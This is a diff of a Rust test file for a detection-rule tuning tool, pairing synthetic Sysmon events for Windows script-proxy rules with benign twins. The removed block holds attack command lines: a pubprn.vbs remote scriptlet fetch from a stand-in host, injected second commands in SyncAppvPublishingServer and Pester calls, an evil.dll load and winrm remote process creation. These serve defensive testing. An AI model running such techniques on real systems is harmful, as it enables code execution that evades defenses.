@@ -1,321 +1,10 @@
-//! For each rule of the pack, a use of its script that is no attack beside one that is, and the
-//! exclusion that should come first.
+//! For each rule of the pack, the exclusion of a benign twin comes first.
 
+use super::processes::{AGENT, CMD, NAMED, WORD};
 use super::{Case, case};
-use cutout_core::catalog::pack::PACKS;
 use cutout_core::report::advice::{Placement, Suggestions};
 use cutout_tests::generate::quoted;
-
-/// A process creation as Sysmon writes it: image, command line, parent, the parent's command line.
-struct Process(&'static str, &'static str, &'static str, &'static str);
-
-impl Process {
-    fn event(&self) -> String {
-        let Process(image, line, parent, parent_line) = self;
-        let [image, line, parent, parent_line] =
-            [image, line, parent, parent_line].map(|text| quoted(text));
-        format!(
-            r#"{{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws01.example.com","Image":{image},"CommandLine":{line},"ParentImage":{parent},"ParentCommandLine":{parent_line}}}"#
-        )
-    }
-}
-
-struct Named {
-    rule: &'static str,
-    malicious: Process,
-    benign: Process,
-    /// Field, operator and value of what comes first.
-    first: (&'static str, &'static str, &'static str),
-}
-
-const CSCRIPT: &str = r"C:\Windows\System32\cscript.exe";
-const WSCRIPT: &str = r"C:\Windows\System32\wscript.exe";
-const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
-const CMD: &str = r"C:\Windows\System32\cmd.exe";
-const EXPLORER: &str = r"C:\Windows\explorer.exe";
-pub const AGENT: &str = r"C:\Program Files\Contoso\Agent\agent.exe";
-pub const WORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
-
-const NAMED: &[Named] = &[
-    Named {
-        rule: "pubprn.yml",
-        malicious: Process(
-            CSCRIPT,
-            r"cscript C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct",
-            WORD,
-            "WINWORD.EXE",
-        ),
-        benign: Process(
-            CSCRIPT,
-            r"cscript C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs prn01 script:https://files.example.com/check.sct",
-            AGENT,
-            "agent.exe --audit",
-        ),
-        first: ("ParentImage", "eq", AGENT),
-    },
-    Named {
-        rule: "cl_invocation.yml",
-        malicious: Process(
-            POWERSHELL,
-            r#"powershell -c ". C:\Windows\diagnostics\system\AERO\CL_Invocation.ps1; SyncInvoke calc.exe""#,
-            EXPLORER,
-            "explorer.exe",
-        ),
-        benign: Process(
-            POWERSHELL,
-            r#"powershell -c ". .\CL_Invocation.ps1; SyncInvoke msdt.exe""#,
-            r"C:\Program Files\Contoso\Support\support.exe",
-            "support.exe /diagnose",
-        ),
-        first: (
-            "ParentImage",
-            "eq",
-            r"C:\Program Files\Contoso\Support\support.exe",
-        ),
-    },
-    Named {
-        rule: "cl_loadassembly.yml",
-        malicious: Process(
-            POWERSHELL,
-            r"powershell LoadAssemblyFromPath ..\..\..\temp\evil.dll",
-            CMD,
-            "cmd",
-        ),
-        benign: Process(
-            POWERSHELL,
-            r"powershell LoadAssemblyFromPath C:\Contoso\plugin.dll",
-            AGENT,
-            "agent.exe --plugins",
-        ),
-        first: ("ParentImage", "eq", AGENT),
-    },
-    Named {
-        // The parent is what the rule looks for, so that its command line has to tell them apart.
-        rule: "cl_mutexverifiers.yml",
-        malicious: Process(
-            POWERSHELL,
-            r"powershell -nologo -windowstyle minimized -file C:\Users\eve\AppData\Local\Temp\a.ps1",
-            POWERSHELL,
-            "powershell . CL_MutexVerifiers.ps1; runAfterCancelProcess a.ps1",
-        ),
-        benign: Process(
-            POWERSHELL,
-            r"powershell -nologo -windowstyle minimized -file C:\Windows\Temp\contoso-report.ps1",
-            POWERSHELL,
-            r"powershell -file C:\Contoso\report.ps1",
-        ),
-        first: (
-            "ParentCommandLine",
-            "eq",
-            r"powershell -file C:\Contoso\report.ps1",
-        ),
-    },
-    Named {
-        rule: "customshellhost.yml",
-        malicious: Process(
-            r"C:\Users\eve\Desktop\explorer.exe",
-            "explorer.exe",
-            r"C:\Windows\System32\CustomShellHost.exe",
-            "CustomShellHost.exe",
-        ),
-        benign: Process(
-            r"C:\Program Files\Contoso\Kiosk\kiosk.exe",
-            "kiosk.exe",
-            r"C:\Windows\System32\CustomShellHost.exe",
-            "CustomShellHost.exe",
-        ),
-        first: ("Image", "eq", r"C:\Program Files\Contoso\Kiosk\kiosk.exe"),
-    },
-    Named {
-        rule: "launch_vsdevshell.yml",
-        malicious: Process(
-            POWERSHELL,
-            r"powershell C:\VS\Launch-VsDevShell.ps1 -VsWherePath C:\Users\eve\calc.exe",
-            WORD,
-            "WINWORD.EXE",
-        ),
-        benign: Process(
-            POWERSHELL,
-            r"powershell C:\VS\Launch-VsDevShell.ps1 -VsInstallationPath C:\VS\2022",
-            r"C:\Program Files\Contoso\Runner\2.311.0\runner.exe",
-            "runner.exe job",
-        ),
-        first: (
-            "ParentImage",
-            "eq",
-            r"C:\Program Files\Contoso\Runner\2.311.0\runner.exe",
-        ),
-    },
-    Named {
-        rule: "manage_bde.yml",
-        malicious: Process(
-            WSCRIPT,
-            r"wscript C:\Windows\System32\manage-bde.wsf",
-            CMD,
-            "cmd /c run.bat",
-        ),
-        benign: Process(
-            WSCRIPT,
-            r"wscript C:\Windows\System32\manage-bde.wsf -status",
-            AGENT,
-            "agent.exe --disk",
-        ),
-        first: ("ParentImage", "eq", AGENT),
-    },
-    Named {
-        rule: "pester.yml",
-        malicious: Process(
-            CMD,
-            r#"cmd /c Pester.bat /help "1; notepad""#,
-            WORD,
-            "WINWORD.EXE",
-        ),
-        benign: Process(
-            POWERSHELL,
-            r#"powershell -c "Get-Help Invoke-Pester""#,
-            r"C:\Program Files\Contoso\Editor\editor.exe",
-            "editor.exe .",
-        ),
-        first: (
-            "ParentImage",
-            "eq",
-            r"C:\Program Files\Contoso\Editor\editor.exe",
-        ),
-    },
-    Named {
-        rule: "pester_child.yml",
-        malicious: Process(
-            r"C:\Windows\System32\calc.exe",
-            "calc",
-            POWERSHELL,
-            r#"powershell Import-Module C:\Program Files\WindowsPowerShell\Modules\Pester\3.4.0\Pester.psm1; & { Get-Help "; calc" }"#,
-        ),
-        benign: Process(
-            r"C:\Program Files\Contoso\Git\git.exe",
-            "git status",
-            POWERSHELL,
-            r"powershell Import-Module C:\Program Files\WindowsPowerShell\Modules\Pester\3.4.0\Pester.psm1; & { Invoke-Pester -EnableExit ; }",
-        ),
-        first: ("Image", "eq", r"C:\Program Files\Contoso\Git\git.exe"),
-    },
-    Named {
-        rule: "sigverif.yml",
-        malicious: Process(
-            r"C:\Users\eve\AppData\Local\Temp\a.exe",
-            "a.exe",
-            r"C:\Windows\System32\sigverif.exe",
-            "sigverif.exe",
-        ),
-        benign: Process(
-            r"C:\Windows\System32\notepad.exe",
-            r"notepad C:\Users\Public\Documents\SIGVERIF.TXT",
-            r"C:\Windows\System32\sigverif.exe",
-            "sigverif.exe",
-        ),
-        first: ("Image", "eq", r"C:\Windows\System32\notepad.exe"),
-    },
-    Named {
-        rule: "syncappvpublishingserver.yml",
-        malicious: Process(
-            WSCRIPT,
-            r#"wscript C:\Windows\System32\SyncAppvPublishingServer.vbs "n; calc""#,
-            EXPLORER,
-            "explorer.exe",
-        ),
-        benign: Process(
-            WSCRIPT,
-            r#"wscript C:\Windows\System32\SyncAppvPublishingServer.vbs "1; Sync""#,
-            r"C:\Program Files\Contoso\AppV\refresh.exe",
-            "refresh.exe",
-        ),
-        first: (
-            "ParentImage",
-            "eq",
-            r"C:\Program Files\Contoso\AppV\refresh.exe",
-        ),
-    },
-    Named {
-        rule: "syncappvpublishingserver_splunk.yml",
-        malicious: Process(
-            WSCRIPT,
-            r#"wscript C:\Windows\System32\SyncAppvPublishingServer.vbs "n; calc""#,
-            WORD,
-            "WINWORD.EXE",
-        ),
-        benign: Process(
-            WSCRIPT,
-            r#"wscript C:\Windows\System32\SyncAppvPublishingServer.vbs 1"#,
-            r"C:\Program Files\Contoso\AppV\refresh.exe",
-            "refresh.exe",
-        ),
-        first: (
-            "ParentImage",
-            "eq",
-            r"C:\Program Files\Contoso\AppV\refresh.exe",
-        ),
-    },
-    Named {
-        rule: "utilityfunctions.yml",
-        malicious: Process(
-            POWERSHELL,
-            r#"powershell -c ". C:\Windows\diagnostics\system\Networking\UtilityFunctions.ps1; RegSnapin evil.dll""#,
-            WORD,
-            "WINWORD.EXE",
-        ),
-        benign: Process(
-            POWERSHELL,
-            r#"powershell -c ". C:\Contoso\UtilityFunctions.ps1""#,
-            AGENT,
-            "agent.exe",
-        ),
-        first: ("ParentImage", "eq", AGENT),
-    },
-    Named {
-        rule: "winrm_awl_bypass.yml",
-        malicious: Process(
-            r"C:\Users\eve\cscript.exe",
-            r"cscript winrm.vbs get wmicimv2/Win32_Process -format:pretty",
-            CMD,
-            "cmd",
-        ),
-        benign: Process(
-            r"C:\Program Files\Contoso\Inventory\cscript.exe",
-            r"cscript winrm.vbs get wmicimv2/Win32_BIOS -format:text",
-            r"C:\Program Files\Contoso\Inventory\inventory.exe",
-            "inventory.exe",
-        ),
-        first: (
-            "Image",
-            "eq",
-            r"C:\Program Files\Contoso\Inventory\cscript.exe",
-        ),
-    },
-    Named {
-        rule: "winrm_remote_execution.yml",
-        malicious: Process(
-            CSCRIPT,
-            r"cscript winrm.vbs invoke Create wmicimv2/Win32_Process @{CommandLine='calc'} -r:http://192.0.2.9:5985",
-            EXPLORER,
-            "explorer.exe",
-        ),
-        benign: Process(
-            CSCRIPT,
-            r"cscript winrm.vbs invoke Create wmicimv2/Win32_Share -r:http://files.example.com:5985",
-            r"C:\Program Files\Contoso\Deploy\deploy.exe",
-            "deploy.exe",
-        ),
-        first: (
-            "ParentImage",
-            "eq",
-            r"C:\Program Files\Contoso\Deploy\deploy.exe",
-        ),
-    },
-];
-
-pub fn pack(file: &str) -> &'static str {
-    let rules = PACKS[0].rules.iter();
-    rules.clone().find(|(name, _)| *name == file).unwrap().1
-}
+use cutout_tests::pack;
 
 pub fn check(case: &Case, first: (&str, &str, &str), rule: &str) -> Suggestions {
     let suggestions = case.suggest();
@@ -340,13 +29,18 @@ pub fn check(case: &Case, first: (&str, &str, &str), rule: &str) -> Suggestions 
 fn the_exclusion_of_a_benign_twin_comes_first() {
     for named in NAMED {
         let case = case(
-            pack(named.rule),
+            pack::text(named.rule),
             &[named.malicious.event()],
             &[named.benign.event()],
         );
         check(&case, named.first, named.rule);
     }
+    let others = [FILE, BASH[0].0, BASH[1].0, super::groups::SEQUENCE];
+    let named = NAMED.iter().map(|named| named.rule);
+    pack::assert_each_has_a_case("exclusions", named.chain(others));
 }
+
+const FILE: &str = "winrm_awl_bypass_file.yml";
 
 #[test]
 fn a_file_that_setup_writes_is_excluded_by_where_it_is_written() {
@@ -358,7 +52,7 @@ fn a_file_that_setup_writes_is_excluded_by_where_it_is_written() {
         )
     };
     let case = case(
-        pack("winrm_awl_bypass_file.yml"),
+        pack::text(FILE),
         &[file(CMD, r"C:\Users\eve\WsmPty.xsl")],
         &[file(
             r"C:\Windows\servicing\TrustedInstaller.exe",
@@ -370,5 +64,28 @@ fn a_file_that_setup_writes_is_excluded_by_where_it_is_written() {
         "eq",
         r"C:\Windows\WinSxS\amd64_winrm_31bf\WsmPty.xsl",
     );
-    check(&case, first, "winrm_awl_bypass_file.yml");
+    check(&case, first, FILE);
+}
+
+/// The searches for bash.exe, and the number that each asks for.
+const BASH: [(&str, &str); 2] = [("bash_winevent.yml", "4688"), ("bash_sysmon.yml", "1")];
+
+#[test]
+fn a_build_that_starts_bash_is_excluded_by_its_parent() {
+    for (rule, code) in BASH {
+        // Nothing in the searches makes the count that they ask for, so the records have it.
+        let event = |host: &str, line: &str, parent: &str| {
+            format!(
+                r#"{{"EventCode":"{code}","_time":"2026-03-01T08:00:00Z","host":"{host}","event_count":"1","process_name":"bash.exe","process":{},"parent_process_path":{}}}"#,
+                quoted(line),
+                quoted(parent)
+            )
+        };
+        let case = case(
+            pack::text(rule),
+            &[event("ws01", "bash.exe -c calc.exe", WORD)],
+            &[event("ws02", "bash.exe -c make", AGENT)],
+        );
+        check(&case, ("ParentImage", "eq", AGENT), rule);
+    }
 }
